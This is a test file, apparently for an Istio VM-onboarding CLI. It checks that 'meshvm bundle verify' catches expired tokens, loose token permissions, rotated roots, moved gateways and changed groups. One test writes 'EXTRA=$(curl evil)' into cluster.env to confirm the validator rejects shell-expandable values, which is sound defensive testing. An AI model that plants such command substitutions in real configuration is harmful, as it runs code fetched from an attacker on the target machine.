/**
 * `meshvm bundle verify` end to end: a bundle written by `meshvm onboard … --bundle` on a test cluster
 * with the simulated VM plane (istiod's CA and xDS behind an east-west gateway on loopback) passes
 * and a simulated VM joins with it; then each way it goes bad: a soon-expiring and an expired token,
 * a loose token mode, a rotated root certificate, a moved gateway, a changed group, a deleted group,
 * cluster.env the shell would expand, the same bundle against a second cluster; the archive form;
 * and `meshvm bundle --refresh-token`, which rewrites only the token (and install.sh's guard).
 */
import {chmodSync, cpSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {STACK_TRACE, type CliResult} from '../helpers/cli.js'
import {runCommand} from '../helpers/in-process.js'
import {kubectl, startCluster, type TestCluster} from '../helpers/cluster.js'
import {recordSecret} from '../helpers/secrets.js'
import {resourceKey} from '../cluster/index.js'
import {createMeshCa} from '../cluster/mesh-ca.js'
import {testPki} from '../cluster/pki.js'
import {boundToken} from '../cluster/tokens.js'
import {VmPlane} from '../cluster/vm-services.js'
import {startVm, type RunningVm} from '../vm/run.js'
import type {Check} from '../../src/lib/bundle-verify/offline.js'

let east: TestCluster
let west: TestCluster
let plane: VmPlane
let dir: string
let bundle: string
const vms: RunningVm[] = []
const NS = 'vmapps'

const meshvm = (cluster: TestCluster, args: string[]): Promise<CliResult> => runCommand(args, {env: cluster.env, timeoutMs: 60_000})

interface Verification {
  result: string
  checks: Check[]
}

async function verify(cluster: TestCluster, args: string[]): Promise<{r: CliResult; v: Verification; status: Record<string, string>}> {
  const r = await meshvm(cluster, ['bundle', 'verify', ...args, '-o', 'json'])
  expect(r.stderr).not.toMatch(STACK_TRACE)
  const v = JSON.parse(r.stdout) as Verification
  return {r, v, status: Object.fromEntries(v.checks.map((c) => [c.id, c.status]))}
}

/** A copy of the bundle with one change. */
function variant(change: (d: string) => void): string {
  const d = mkdtempSync(join(dir, 'variant-'))
  cpSync(bundle, d, {recursive: true, dereference: true})
  change(d)
  return d
}

beforeAll(async () => {
  east = await startCluster({contextName: 'east', rootCertDelayMs: 50})
  west = await startCluster({contextName: 'west', rootCertDelayMs: 50})
  plane = new VmPlane({store: east.store, pki: testPki(), mesh: east.mesh})
  await plane.start()
  dir = mkdtempSync(join(east.dir, 'bundles-'))
  bundle = join(dir, 'web')
  const r = await meshvm(east, [
    'onboard',
    'web',
    '-n',
    NS,
    '-p',
    'http=8080',
    '-s',
    'web-vm',
    '-l',
    'tier=front',
    '--create-namespace',
    '--create-service-account',
    '--apply',
    '--bundle',
    bundle,
    '--autoregister',
  ])
  expect(r.code, r.stderr).toBe(0)
}, 60_000)

afterAll(async () => {
  for (const vm of vms) if (vm.child.exitCode === null) vm.child.kill('SIGKILL')
  await plane?.stop()
  await east?.stop()
  await west?.stop()
})

describe.sequential('bundle verify', () => {
  it('a fresh bundle passes every check, and a simulated VM joins with it', async () => {
    const {r, v, status} = await verify(east, [bundle])
    expect(r.code, r.stderr).toBe(0)
    expect(v.result).toBe('pass')
    expect(status).toEqual({
      files: 'pass',
      'files.token-mode': 'pass',
      'cluster-env': 'pass',
      'mesh-yaml': 'pass',
      'token.expiry': 'pass',
      'token.audience': 'pass',
      'token.service-account': 'pass',
      'token.review': 'pass',
      'root-cert': 'pass',
      istiod: 'pass',
      gateway: 'pass',
      'gateway.ports': 'pass',
      'cluster-id': 'pass',
      workloadgroup: 'pass',
    })
    const table = await meshvm(east, ['bundle', 'verify', bundle])
    expect(table.code).toBe(0)
    expect(table.stdout.split('\n')[0]).toMatch(/^CHECK\s+STATUS\s+DETAIL$/)
    expect(table.stdout).toMatch(new RegExp(`^gateway +pass +hosts points at ${plane.gateway.address.replace(/\./g, '\\.')}, the current address of istio-system/istio-eastwestgateway$`, 'm'))
    expect(table.stderr).toBe('14 checks: 14 passed\n')
    const vm = startVm(bundle, {address: '10.0.0.5', hostname: 'vm-1'})
    vms.push(vm)
    await vm.waitFor(/configuration acknowledged \(SYNCED\)/)
    vm.child.kill('SIGTERM')
    await vm.done
  })

  it('the archive form checks the same files with the modes they carry', async () => {
    const out = join(dir, 'archived')
    const r = await meshvm(east, ['bundle', 'web', '-n', NS, '-d', out, '--archive'])
    expect(r.code, r.stderr).toBe(0)
    const {r: res, status} = await verify(east, ['--archive', join(out, 'web-bundle.tar.gz')])
    expect(res.code, res.stderr).toBe(0)
    expect(status['files.token-mode']).toBe('pass')
    expect(status.workloadgroup).toBe('pass')
  })

  it('a token that expires soon is a warning (exit 0); an expired one fails, offline too', async () => {
    const soon = await verify(east, [bundle, '--warn-within', '2h'])
    expect(soon.r.code, soon.r.stderr).toBe(0)
    expect(soon.v.result).toBe('warn')
    const c = soon.v.checks.find((x) => x.id === 'token.expiry')!
    expect(c.status).toBe('warn')
    expect(c.detail).toMatch(/^expires in (59|60)m \(\d{4}-.*\): the sidecar must connect before then$/)
    // A line to paste: the real directory, not a placeholder.
    expect(c.fix).toBe(`meshvm bundle web -n ${NS} --refresh-token -d ${bundle}`)

    const sa = east.store.get('/serviceaccounts', NS, 'web-vm')!
    const expired = boundToken(testPki(), {namespace: NS, name: 'web-vm', uid: sa.metadata.uid!}, ['istio-ca'], -60).token
    recordSecret(expired)
    const d = variant((x) => writeFileSync(join(x, 'istio-token'), expired))
    const off = await verify(east, [d, '--offline'])
    expect(off.r.code).toBe(8)
    expect(off.status['token.expiry']).toBe('fail')
    expect(off.v.checks.find((x) => x.id === 'token.expiry')!.detail).toMatch(/^expired (60|61)s ago/)
    expect(off.status).not.toHaveProperty('token.review')
    const live = await verify(east, [d])
    expect(live.status['token.review']).toBe('fail')
    expect(live.v.checks.find((x) => x.id === 'token.review')!.detail).toBe('the API server rejects it: [invalid bearer token, service account token has expired]')
    expect(live.r.stderr).toMatch(/^Error: 2 of 14 checks failed: token.expiry, token.review$/m)
  })

  it('a token readable by others, and a cluster.env the shell would expand, fail', async () => {
    const d = variant((x) => {
      chmodSync(join(x, 'istio-token'), 0o644)
      writeFileSync(join(x, 'cluster.env'), readFileSync(join(x, 'cluster.env'), 'utf8') + 'EXTRA=$(curl evil)\n')
    })
    const {r, v, status} = await verify(east, [d, '--offline'])
    expect(r.code).toBe(8)
    expect(status['files.token-mode']).toBe('fail')
    expect(v.checks.find((x) => x.id === 'cluster-env')!.detail).toMatch(/^line \d+ \(EXTRA\): unquoted \$ would be interpreted by the VM's shell$/)
  })

  it('a rotated root certificate fails root-cert', async () => {
    const key = resourceKey('', 'configmaps')
    const cm = east.store.get(key, NS, 'istio-ca-root-cert')!
    const original = structuredClone(cm.data)
    // Another mesh root, as after a CA rotation.
    const rotated = createMeshCa('rotated-root').rootPem
    expect(rotated).not.toBe((original as Record<string, string>)['root-cert.pem'])
    east.store.update(key, {...cm, data: {'root-cert.pem': rotated}})
    try {
      const {r, v, status} = await verify(east, [bundle])
      expect(r.code).toBe(8)
      expect(status['root-cert']).toBe('fail')
      expect(v.checks.find((x) => x.id === 'root-cert')!.detail).toBe(`differs from ConfigMap ${NS}/istio-ca-root-cert: the mesh root was rotated; the VM would not trust istiod`)
    } finally {
      east.store.update(key, {...east.store.get(key, NS, 'istio-ca-root-cert')!, data: original})
    }
  })

  it('a moved east-west gateway fails gateway', async () => {
    const key = resourceKey('', 'services')
    const svc = east.store.get(key, 'istio-system', 'istio-eastwestgateway')!
    const before = structuredClone(svc.status)
    east.store.update(key, {...svc, status: {loadBalancer: {ingress: [{ip: '198.51.100.77'}]}}})
    try {
      const {r, v, status} = await verify(east, [bundle])
      expect(r.code).toBe(8)
      expect(status.gateway).toBe('fail')
      expect(v.checks.find((x) => x.id === 'gateway')!.detail).toBe(
        `hosts points at ${plane.gateway.address}, but istio-system/istio-eastwestgateway is now at 198.51.100.77: the VM cannot reach istiod`,
      )
    } finally {
      east.store.update(key, {...east.store.get(key, 'istio-system', 'istio-eastwestgateway')!, status: before})
    }
  })

  it('a sidecar VM bundle pointed at an ambient east-west gateway (istio-east-west, HBONE on 15008): warns with the fix; without istiod ports, fails', async () => {
    const key = resourceKey('', 'services')
    const svc = east.store.get(key, 'istio-system', 'istio-eastwestgateway')!
    const ports = (svc.spec as {ports: {port: number}[]}).ports
    const ambient = (keep: number[]) => ({
      ...east.store.get(key, 'istio-system', 'istio-eastwestgateway')!,
      metadata: {...svc.metadata, labels: {...svc.metadata.labels, 'gateway.networking.k8s.io/gateway-class-name': 'istio-east-west'}},
      spec: {...(svc.spec as object), ports: [...ports.filter((p) => keep.includes(p.port)), {name: 'mesh', port: 15008, protocol: 'TCP'}]},
    })
    try {
      // istiod exposed on it too, but no 15443: the VM joins, its calls across networks do not go through.
      east.store.update(key, ambient([15012, 15017]))
      const warned = await verify(east, [bundle])
      expect(warned.r.code, warned.r.stderr).toBe(0)
      const w = warned.v.checks.find((x) => x.id === 'gateway.ports')!
      expect(w).toMatchObject({
        status: 'warn',
        detail:
          "istio-system/istio-eastwestgateway is an ambient east-west gateway (class istio-east-west, HBONE on 15008): it exposes istiod (15012, 15017), but not 15443, so this sidecar VM's calls to services in other networks fail",
      })
      expect(w.fix).toMatch(/^VMs join as sidecars \(there is no ztunnel on VMs\): deploy a classic east-west gateway beside the ambient one/)
      // HBONE only: the VM cannot even reach istiod.
      east.store.update(key, ambient([]))
      const failed = await verify(east, [bundle])
      expect(failed.r.code).toBe(8)
      expect(failed.v.checks.find((x) => x.id === 'gateway.ports')).toMatchObject({
        status: 'fail',
        detail: 'istio-system/istio-eastwestgateway is an ambient east-west gateway (class istio-east-west, HBONE on 15008) without 15012 and 15017: this sidecar VM cannot reach istiod through it',
      })
    } finally {
      east.store.update(key, {...east.store.get(key, 'istio-system', 'istio-eastwestgateway')!, metadata: svc.metadata, spec: svc.spec})
    }
  })

  it('a changed group, then a deleted one, fail workloadgroup with the meshvm bundle line that writes it again', async () => {
    const p = await kubectl(east, ['patch', 'workloadgroup', 'web', '-n', NS, '--type', 'merge', '-p', '{"spec":{"metadata":{"labels":{"tier":"back"}},"template":{"network":"net2"}}}'])
    expect(p.code, p.stderr).toBe(0)
    const changed = await verify(east, [bundle])
    expect(changed.r.code).toBe(8)
    const c = changed.v.checks.find((x) => x.id === 'workloadgroup')!
    expect(c).toEqual({
      id: 'workloadgroup',
      status: 'fail',
      detail: `WorkloadGroup ${NS}/web changed since the bundle: network (none) → net2; label tier: front → back`,
      fix: `meshvm bundle web -n ${NS} --autoregister -d ${bundle}`,
    })
    // The hint is a command that runs as printed: the group, the directory, and the user's --context.
    const table = await meshvm(east, ['bundle', 'verify', bundle, '--context', 'east'])
    expect(table.code).toBe(8)
    expect(table.stdout).toContain(`— fix: meshvm bundle --context east web -n ${NS} --autoregister -d ${bundle}`)
    expect(table.stderr).toContain(`Hint: meshvm bundle --context east web -n ${NS} --autoregister -d ${bundle}\n`)
    const rerun = await meshvm(east, ['bundle', '--context', 'east', 'web', '-n', NS, '--autoregister', '-d', bundle])
    expect(rerun.code, rerun.stderr).toBe(0)
    const again = await verify(east, [bundle])
    expect(again.status.workloadgroup).toBe('pass')
    const del = await kubectl(east, ['delete', 'workloadgroup', 'web', '-n', NS])
    expect(del.code, del.stderr).toBe(0)
    const gone = await verify(east, [bundle])
    expect(gone.v.checks.find((x) => x.id === 'workloadgroup')!.detail).toBe(`WorkloadGroup ${NS}/web not found`)
  })

  it("the same bundle against another cluster: its token and root certificate are not that cluster's", async () => {
    const {r, status} = await verify(west, [bundle])
    expect(r.code).toBe(8)
    expect(status['token.review']).toBe('fail')
    expect(status['root-cert']).toBe('fail')
  })

  it('bad input: one line naming the flag or argument', async () => {
    const a = await meshvm(east, ['bundle', 'verify'])
    expect(a.code).toBe(2)
    expect(a.stderr.split('\n')[0]).toBe('Error: missing DIR or --archive FILE: which bundle to check?')
    const b = await meshvm(east, ['bundle', 'verify', bundle, '--warn-within', 'soon'])
    expect(b.stderr.split('\n')[0]).toBe('Error: --warn-within "soon": expected a duration such as 10s, 1m or 500ms (0 allowed), at most 596h (24.8 days)')
    const c = await meshvm(east, ['bundle', 'verify', '--archive', join(bundle, 'cluster.env')])
    expect(c.code).toBe(2)
    expect(c.stderr.split('\n')[0]).toBe(`Error: --archive "${join(bundle, 'cluster.env')}": cannot read it as a .tar.gz: not a gzip file`)
    const o = await meshvm(east, ['bundle', 'verify', bundle, '-o', 'name'])
    expect(o.code).toBe(2)
    expect(o.stderr).toBe('Error: -o/--output "name": expected one of table, json, yaml\n')
    for (const x of [a, b, c, o]) expect(x.stderr).not.toMatch(STACK_TRACE)
  })
})

describe.sequential('bundle --refresh-token', () => {
  it("rewrites only istio-token (0600) and install.sh's expiry guard; refuses another group's bundle", async () => {
    const r0 = await meshvm(east, ['onboard', 'api', '-n', NS, '-p', 'http=8080', '-s', 'web-vm', '--apply', '--bundle', join(dir, 'api'), '--token-duration', '10m'])
    expect(r0.code, r0.stderr).toBe(0)
    const d = join(dir, 'api')
    const before = Object.fromEntries(readdirSync(d).map((f) => [f, readFileSync(join(d, f), 'utf8')]))
    const soon = await verify(east, [d, '--warn-within', '30m'])
    expect(soon.status['token.expiry']).toBe('warn')
    const r = await meshvm(east, ['bundle', 'api', '-n', NS, '-d', d, '--refresh-token', '--token-duration', '2h'])
    expect(r.stderr).not.toMatch(STACK_TRACE)
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toMatch(new RegExp(`^Wrote ${d}/istio-token, ${d}/install.sh: a new token for ${NS}/web-vm, expiring at \\d{4}-`, 'm'))
    const after = Object.fromEntries(readdirSync(d).map((f) => [f, readFileSync(join(d, f), 'utf8')]))
    expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort())
    for (const f of Object.keys(before)) if (f !== 'istio-token' && f !== 'install.sh') expect(after[f], f).toBe(before[f])
    expect(after['istio-token']).not.toBe(before['istio-token'])
    recordSecret(after['istio-token']!)
    expect(statSync(join(d, 'istio-token')).mode & 0o777).toBe(0o600)
    expect(after['install.sh']).not.toBe(before['install.sh'])
    expect(after['install.sh']!.replace(/\d{10}/g, 'E').replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'T')).toBe(before['install.sh']!.replace(/\d{10}/g, 'E').replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'T'))
    const ok = await verify(east, [d, '--warn-within', '30m'])
    expect(ok.r.code, ok.r.stderr).toBe(0)
    expect(ok.status['token.expiry']).toBe('pass')
    // Another group's bundle directory: refused, nothing written.
    const wrong = await meshvm(east, ['bundle', 'api', '-n', NS, '-d', join(dir, 'archived'), '--refresh-token'])
    expect(wrong.code).toBe(2)
    expect(wrong.stderr.split('\n')[0]).toBe(
      `Error: --refresh-token: the bundle in ${join(dir, 'archived')} is for ${NS}/web (service account web-vm), not for WorkloadGroup ${NS}/api (service account web-vm)`,
    )
  })
})
